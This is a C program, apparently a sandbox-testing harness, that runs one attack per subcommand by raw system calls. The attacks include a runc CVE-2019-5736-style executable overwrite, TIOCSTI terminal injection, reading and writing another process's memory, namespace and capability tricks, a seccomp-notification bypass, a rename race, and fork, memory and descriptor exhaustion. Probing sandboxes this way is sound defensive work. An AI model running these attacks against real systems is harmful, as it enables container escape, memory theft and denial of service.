/* One attack per subcommand, by raw system calls, so that nothing between the program and the kernel decides.
 *
 * Prints "OK", with what was gained behind it, or the name of the errno that the attack ended with; exits 0 or 1.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <linux/seccomp.h>
#include <linux/userfaultfd.h>
#include <linux/vm_sockets.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#ifndef MFD_NOEXEC_SEAL
#define MFD_NOEXEC_SEAL 0x0008U
#define MFD_EXEC 0x0010U
#endif

static int failed(void)
{
    puts(strerrorname_np(errno));
    return 1;
}

static int done(long result)
{
    if (result < 0)
        return failed();
    puts("OK");
    return 0;
}

static int gained(const char *what)
{
    printf("OK %s\n", what);
    return 0;
}

static long number(const char *text)
{
    return (long)strtoull(text, NULL, 0);
}

/* --- any call: `call NUMBER [ARGUMENT...]`; "@TEXT" passes the address of TEXT, "%N" of N zero bytes --- */

static int any_call(char **argv)
{
    long arguments[6] = {0};
    for (int i = 0; i < 6 && argv[i + 1]; i++) {
        const char *text = argv[i + 1];
        if (*text == '@')
            arguments[i] = (long)(text + 1);
        else if (*text == '%')
            arguments[i] = (long)calloc(1, number(text + 1));
        else
            arguments[i] = number(text);
    }
    return done(syscall(number(argv[0]), arguments[0], arguments[1], arguments[2], arguments[3], arguments[4], arguments[5]));
}

/* --- terminal and descriptors --- */

/* A terminal of our own as the controlling one, as a program run by a shell has it. */
static int terminal(void)
{
    int unlocked = 0, count;
    int master = open("/dev/ptmx", O_RDWR | O_NOCTTY);
    if (master < 0 || ioctl(master, TIOCSPTLCK, &unlocked) < 0 || ioctl(master, TIOCGPTN, &count) < 0)
        return -1;
    char name[64];
    snprintf(name, sizeof name, "/dev/pts/%d", count);
    if (fork())
        _exit(({ int status; wait(&status); fflush(stdout); WEXITSTATUS(status); }));
    setsid();
    return open(name, O_RDWR);
}

static int tiocsti(char **argv)
{
    int slave = terminal(), waiting = 0;
    if (slave < 0)
        return failed();
    struct termios raw;
    tcgetattr(slave, &raw);
    cfmakeraw(&raw);
    tcsetattr(slave, TCSANOW, &raw);
    if (syscall(SYS_ioctl, slave, number(argv[0]) << 32 | TIOCSTI, "x") < 0)
        return failed();
    ioctl(slave, FIONREAD, &waiting);
    errno = ENODATA;
    return waiting == 1 ? gained("typed") : failed();
}

static int terminal_ioctl(char **argv)
{
    char argument[64] = {1};
    int slave = terminal();
    if (slave < 0)
        return failed();
    return done(syscall(SYS_ioctl, slave, number(argv[0]), argument));
}

/* Every descriptor above 2: one that is a directory leads to NAME below it. */
static int any_directory(char **argv)
{
    char text[256] = {0};
    for (int fd = 3; fd < 1024; fd++) {
        int file = openat(fd, argv[0], O_RDONLY);
        if (file >= 0 && read(file, text, sizeof text - 1) > 0)
            return gained(strtok(text, "\n"));
    }
    errno = EBADF;
    return failed();
}

/* As runc was attacked (CVE-2019-5736): hold the program of a running process, write to it when it no longer runs. With
 * "1" the process is pid 1, else one that runs the program PATH. */
static int overwrite_exe(char **argv)
{
    char path[64];
    pid_t pid = atoi(argv[0]);
    if (pid != 1) {
        int started[2];
        char byte;
        if (pipe2(started, O_CLOEXEC) < 0)
            return failed();
        pid = fork();
        if (pid == 0) {
            execl(argv[0], argv[0], "1000", NULL);
            _exit(1);
        }
        close(started[1]);
        if (read(started[0], &byte, 1) < 0)
            return failed();
    }
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH);
    if (fd < 0)
        return failed();
    kill(pid, SIGKILL);
    if (pid != 1)
        waitpid(pid, NULL, 0);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int file = open(path, O_WRONLY);
    if (file < 0)
        return failed();
    return done(write(file, "#!", 2));
}

/* --- memory of others --- */

static char secret[32] = "the victim's secret";

static int victim(char **argv)
{
    (void)argv;
    prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY, 0, 0, 0);
    printf("%d %p\n", getpid(), (void *)secret);
    fflush(stdout);
    getchar();
    puts(secret);
    return 0;
}

static int readv_other(char **argv)
{
    char text[32] = {0};
    struct iovec local = {text, sizeof text}, remote = {(void *)number(argv[1]), sizeof text};
    if (syscall(SYS_process_vm_readv, atoi(argv[0]), &local, 1, &remote, 1, 0) < 0)
        return failed();
    return gained(text);
}

static int writev_other(char **argv)
{
    char text[] = "overwritten";
    struct iovec local = {text, sizeof text}, remote = {(void *)number(argv[1]), sizeof text};
    return done(syscall(SYS_process_vm_writev, atoi(argv[0]), &local, 1, &remote, 1, 0));
}

static int seize(char **argv)
{
    return done(syscall(SYS_ptrace, PTRACE_SEIZE, atoi(argv[0]), 0, 0));
}

static int read_path(char **argv)
{
    char text[4096] = {0};
    int fd = open(argv[0], O_RDONLY | O_NONBLOCK);
    if (fd < 0)
        return failed();
    ssize_t length = read(fd, text, sizeof text - 1);
    if (length < 0)
        return failed();
    for (ssize_t i = 0; i < length; i++)
        if (text[i] == 0 || text[i] == '\n')
            text[i] = ' ';
    return gained(text);
}

static int write_path(char **argv)
{
    int fd = open(argv[0], O_WRONLY | O_NONBLOCK);
    if (fd < 0)
        return failed();
    return done(write(fd, argv[1], strlen(argv[1])));
}

static int link_path(char **argv)
{
    char text[4096] = {0};
    if (readlink(argv[0], text, sizeof text - 1) < 0)
        return failed();
    return gained(text);
}

/* --- namespaces and capabilities --- */

static int clone_flags(char **argv)
{
    long pid = syscall(SYS_clone, number(argv[0]) | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    if (pid > 0)
        waitpid(pid, NULL, 0);
    return done(pid);
}

static int clone3_flags(char **argv)
{
    unsigned long args[8] = {number(argv[0]), 0, 0, 0, SIGCHLD};
    long pid = syscall(SYS_clone3, args, sizeof args);
    if (pid == 0)
        _exit(0);
    if (pid > 0)
        waitpid(pid, NULL, 0);
    return done(pid);
}

/* setns(2) by a pidfd into all namespaces of a process, or, given a path, by that file. */
static int setns_to(char **argv)
{
    int fd = *argv[0] == '/' ? open(argv[0], O_RDONLY) : (int)syscall(SYS_pidfd_open, atoi(argv[0]), 0);
    if (fd < 0)
        return failed();
    return done(syscall(SYS_setns, fd, *argv[0] == '/' ? 0 : CLONE_NEWUTS | CLONE_NEWIPC));
}

static int identity(char **argv)
{
    (void)argv;
    unsigned int header[2] = {0x20080522, 0}, sets[6];
    if (syscall(SYS_capget, header, sets) < 0)
        return failed();
    printf("OK euid %d permitted %llx\n", geteuid(), (unsigned long long)sets[4] << 32 | sets[1]);
    return 0;
}

static int capset_all(char **argv)
{
    (void)argv;
    unsigned int header[2] = {0x20080522, 0}, sets[6];
    syscall(SYS_capget, header, sets);
    sets[0] = sets[1] = 1 << CAP_CHOWN;
    sets[3] = sets[4] = 0;
    sets[2] = sets[5] = 0;
    return done(syscall(SYS_capset, header, sets));
}

static int mount_in_user_namespace(char **argv)
{
    (void)argv;
    if (syscall(SYS_unshare, CLONE_NEWUSER | CLONE_NEWNS) < 0)
        return failed();
    return done(syscall(SYS_mount, "none", "/proc", "tmpfs", 0, NULL));
}

/* --- system calls --- */

#ifdef __x86_64__
static int int80(char **argv)
{
    (void)argv;
    long result;
    /* getpid is 20 there. The gate clobbers r8 to r11. */
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(20) : "r8", "r9", "r10", "r11", "memory");
    if (result < 0) {
        errno = (int)-result;
        return failed();
    }
    errno = ESRCH;
    return result == getpid() ? gained("pid") : failed();
}
#endif

static int file_handle(char **argv)
{
    struct { struct file_handle handle; unsigned char bytes[128]; } found = {{.handle_bytes = 128}, {0}};
    int mount;
    if (name_to_handle_at(AT_FDCWD, argv[0], &found.handle, &mount, 0) < 0)
        return failed();
    int root = open("/", O_RDONLY | O_DIRECTORY);
    return done(syscall(SYS_open_by_handle_at, root, &found.handle, O_RDONLY));
}

static int open_handle_only(char **argv)
{
    (void)argv;
    struct { struct file_handle handle; unsigned char bytes[128]; } made = {{.handle_bytes = 8, .handle_type = 1}, {0}};
    return done(syscall(SYS_open_by_handle_at, AT_FDCWD, &made.handle, O_RDONLY));
}

static int uring(char **argv)
{
    (void)argv;
    struct io_uring_params params = {0};
    return done(syscall(SYS_io_uring_setup, 1, &params));
}

static int bpf_map(char **argv)
{
    (void)argv;
    union bpf_attr attr = {.map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1};
    return done(syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr));
}

static int perf(char **argv)
{
    (void)argv;
    struct perf_event_attr attr = {.type = PERF_TYPE_SOFTWARE, .size = sizeof attr, .config = PERF_COUNT_SW_CPU_CLOCK};
    return done(syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0));
}

static int memfd_with(const char *program, unsigned flags)
{
    int source = open(program, O_RDONLY), fd = (int)syscall(SYS_memfd_create, "nameless", flags);
    if (source < 0 || fd < 0)
        return -1;
    char buffer[65536];
    for (ssize_t n; (n = read(source, buffer, sizeof buffer)) > 0;)
        if (write(fd, buffer, n) != n)
            return -1;
    return fd;
}

/* Executes itself (argv[0]) from a nameless file. HOW: execveat, path, or sealed (the only kind that may be made). */
static int memfd_exec(char **argv)
{
    char path[64], *const arguments[] = {"nameless", "identity", NULL}, *const environment[] = {NULL};
    unsigned flags = !strcmp(argv[1], "explicit") ? MFD_EXEC : !strcmp(argv[1], "sealed") ? MFD_NOEXEC_SEAL : 0;
    int fd = memfd_with(argv[0], flags);
    if (fd < 0)
        return failed();
    if (!strcmp(argv[1], "sealed"))
        fchmod(fd, 0700);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (!strcmp(argv[2], "execveat"))
        syscall(SYS_execveat, fd, "", arguments, environment, AT_EMPTY_PATH);
    else
        execve(path, arguments, environment);
    return failed();
}

static struct sock_filter notify_getppid[] = {
    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 0, 1),
    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
};

static long listen_getppid(void)
{
    struct sock_fprog program = {4, notify_getppid};
    return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
}

static void *let_it_continue(void *listener)
{
    struct seccomp_notif request = {0};
    struct seccomp_notif_resp answer = {0};
    ioctl((int)(long)listener, SECCOMP_IOCTL_NOTIF_RECV, &request);
    answer.id = request.id;
    answer.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
    ioctl((int)(long)listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
    return NULL;
}

/* An outer filter refuses by notifying, its listener is gone; an inner one of our own answers "continue". With "inner"
 * the outer filter is whatever the sandbox has. */
static int answer_for_the_dead(char **argv)
{
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    if (strcmp(argv[0], "inner")) {
        long outer = listen_getppid();
        if (outer < 0)
            return failed();
        close((int)outer);
        if (syscall(SYS_getppid) != -1 || errno != ENOSYS)
            return gained("the outer filter did not hold at all");
    }
    pthread_t thread;
    long listener = listen_getppid();
    if (listener < 0)
        return failed();
    pthread_create(&thread, NULL, let_it_continue, (void *)listener);
    long parent = syscall(SYS_getppid);
    return parent > 0 ? gained("the refused call was executed") : failed();
}

/* --- paths --- */

/* Swap two names thousands of times a second, until killed; without a core of its own. */
static int swap(char **argv)
{
    puts("swapping");
    fflush(stdout);
    for (;; usleep(50))
        if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2) < 0)
            return failed();
}

/* --- sockets --- */

static int connect_unix(char **argv)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    size_t length = strlen(argv[0]);
    memcpy(address.sun_path, argv[0], length);
    if (*argv[0] == '@')
        address.sun_path[0] = 0;
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0)
        return failed();
    if (connect(fd, (struct sockaddr *)&address, offsetof(struct sockaddr_un, sun_path) + length) < 0)
        return failed();
    char text[64] = {0};
    if (read(fd, text, sizeof text - 1) < 0)
        return failed();
    return gained(text);
}

/* --- resources --- */

static int stopped_at(long count)
{
    printf("%s %ld\n", strerrorname_np(errno), count);
    return 1;
}

static int forks(char **argv)
{
    long most = number(argv[0]), count = 0;
    int ends[2], stopped = 0;
    char byte;
    if (pipe(ends) < 0)
        return failed();
    for (; count < most && !stopped; count++) {
        pid_t pid = fork();
        stopped = pid < 0 ? errno : 0;
        if (pid == 0) {
            close(ends[1]);
            _exit((int)read(ends[0], &byte, 1));
        }
    }
    close(ends[1]);
    while (wait(NULL) > 0)
        continue;
    errno = stopped;
    return stopped ? stopped_at(count - 1) : gained("all");
}

static void *wait_for_end(void *end)
{
    char byte;
    if (read((int)(long)end, &byte, 1) < 0)
        return NULL;
    return end;
}

static int threads(char **argv)
{
    long most = number(argv[0]), count = 0;
    int ends[2];
    pthread_t thread;
    pthread_attr_t attributes;
    if (pipe(ends) < 0)
        return failed();
    pthread_attr_init(&attributes);
    pthread_attr_setstacksize(&attributes, 65536);
    for (; count < most; count++) {
        errno = pthread_create(&thread, &attributes, wait_for_end, (void *)(long)ends[0]);
        if (errno)
            return stopped_at(count);
    }
    return gained("all");
}

static int memory(char **argv)
{
    long most = number(argv[0]), step = 8 << 20, taken = 0;
    for (; taken < most; taken += step) {
        char *block = mmap(NULL, step, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (block == MAP_FAILED)
            return stopped_at(taken);
        memset(block, 1, step);
    }
    return gained("all");
}

static int inodes(char **argv)
{
    long most = number(argv[1]), count = 0;
    char name[64];
    if (chdir(argv[0]) < 0)
        return failed();
    for (; count < most; count++) {
        snprintf(name, sizeof name, "%ld", count);
        int fd = open(name, O_CREAT | O_WRONLY, 0600);
        if (fd < 0)
            return stopped_at(count);
        close(fd);
    }
    return gained("all");
}

static int descriptors(char **argv)
{
    long most = number(argv[0]), count = 0;
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
    for (; count < most; count++)
        if (dup(0) < 0)
            return stopped_at(count);
    return gained("all");
}

static int flood_of_denials(char **argv)
{
    long most = number(argv[0]), refused = 0;
    for (long i = 0; i < most; i++)
        if (syscall(SYS_unshare, i << 40 | CLONE_NEWUSER) < 0 && errno == EPERM)
            refused++;
    printf("OK %ld\n", refused);
    return 0;
}

/* A daemon that ignores what can be ignored, in a session of its own, and holds standard output. Its parent ends when it is
 * up, with the same status. */
static int orphan(char **argv)
{
    int up[2];
    char byte;
    (void)argv;
    if (pipe(up) < 0)
        return failed();
    if (fork() == 0) {
        setsid();
        if (fork() == 0) {
            for (int i = 1; i < 32; i++)
                signal(i, SIG_IGN);
            printf("OK %d\n", getpid());
            fflush(stdout);
            close(up[0]);
            close(up[1]);
            for (;;)
                pause();
        }
        _exit(0);
    }
    close(up[1]);
    wait(NULL);
    return read(up[0], &byte, 1) == 0 ? 0 : failed();
}

static const struct { const char *name; int (*run)(char **); int arguments; } attacks[] = {
    {"call", any_call, 1}, {"tiocsti", tiocsti, 1}, {"terminal-ioctl", terminal_ioctl, 1},
    {"any-directory", any_directory, 1}, {"overwrite-exe", overwrite_exe, 1}, {"victim", victim, 0},
    {"readv", readv_other, 2}, {"writev", writev_other, 2}, {"seize", seize, 1}, {"read", read_path, 1},
    {"write", write_path, 2}, {"readlink", link_path, 1}, {"clone", clone_flags, 1}, {"clone3", clone3_flags, 1},
    {"setns", setns_to, 1}, {"identity", identity, 0}, {"capset", capset_all, 0},
    {"mount-in-userns", mount_in_user_namespace, 0},
#ifdef __x86_64__
    {"int80", int80, 0},
#endif
    {"file-handle", file_handle, 1}, {"open-handle", open_handle_only, 0}, {"io-uring", uring, 0}, {"bpf", bpf_map, 0},
    {"perf", perf, 0}, {"memfd", memfd_exec, 3}, {"answer", answer_for_the_dead, 1}, {"swap", swap, 2},
    {"connect", connect_unix, 1}, {"forks", forks, 1}, {"threads", threads, 1}, {"memory", memory, 1},
    {"inodes", inodes, 2}, {"descriptors", descriptors, 1}, {"denials", flood_of_denials, 1}, {"orphan", orphan, 0},
};

int main(int argc, char **argv)
{
    for (size_t i = 0; argc > 1 && i < sizeof attacks / sizeof *attacks; i++)
        if (!strcmp(argv[1], attacks[i].name) && argc - 2 >= attacks[i].arguments)
            return attacks[i].run(argv + 2);
    fputs("attack SUBCOMMAND ARGUMENT...\n", stderr);
    return 2;
}
